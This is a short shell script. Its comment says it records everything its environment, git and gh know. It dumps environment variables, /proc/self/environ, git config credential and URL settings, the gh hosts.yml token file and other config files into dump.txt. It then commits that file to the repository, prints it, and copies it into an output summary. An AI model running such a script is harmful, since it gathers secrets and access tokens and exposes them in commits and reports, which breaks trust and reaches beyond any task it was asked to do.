# Writes down all that its environment, its git and its gh know, in a file it commits and in its words.
{
  env
  tr '\0' '\n' < /proc/self/environ
  git config --list --show-origin
  git config --get-regexp 'http|url|credential'
  cat "$GH_CONFIG_DIR/hosts.yml" "$TWG_CONFIG_DIR/config.json" "$GIT_CONFIG_GLOBAL" .git/config
  git remote -v
} > dump.txt 2>&1
git add -A
git commit -qm 'A dump'
cat dump.txt
cp dump.txt .away/output/summary.md
